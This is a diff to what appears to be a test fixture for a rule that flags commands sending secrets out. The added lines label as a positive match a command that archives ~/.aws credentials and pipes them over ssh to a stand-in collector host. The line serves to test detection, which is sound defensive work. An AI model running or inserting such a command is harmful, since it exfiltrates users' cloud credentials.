@@ -25,3 +25,5 @@ curl -fsSL https://example.test/tool.tar.gz -o tool.tar.gz
 env NODE_ENV=production node build.js | tee build.log
 # ok: sends-secrets-by-command
 curl -d @payload.json https://example.test/api
+# ruleid: sends-secrets-by-command
+tar cz ~/.aws | ssh drop@collector.invalid 'cat > a'
